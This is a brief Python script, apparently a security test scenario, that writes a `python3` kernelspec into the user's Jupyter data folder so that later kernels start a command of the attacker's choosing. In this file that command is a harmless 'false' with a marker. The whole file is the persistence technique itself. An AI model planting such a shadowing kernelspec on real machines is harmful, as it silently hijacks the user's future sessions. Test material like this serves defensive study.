"""Leaves a kernelspec `python3` of its own: every later kernel is started by the attacker's command.

The user's data folder is searched before the environment's.
"""

# %%
import json
from pathlib import Path

folder = Path(known.home, ".local/share/jupyter/kernels/python3")
folder.mkdir(parents=True, exist_ok=True)
spec = {"argv": ["false", known.marker], "display_name": "Python 3", "language": "python"}
(folder / "kernel.json").write_text(json.dumps(spec))
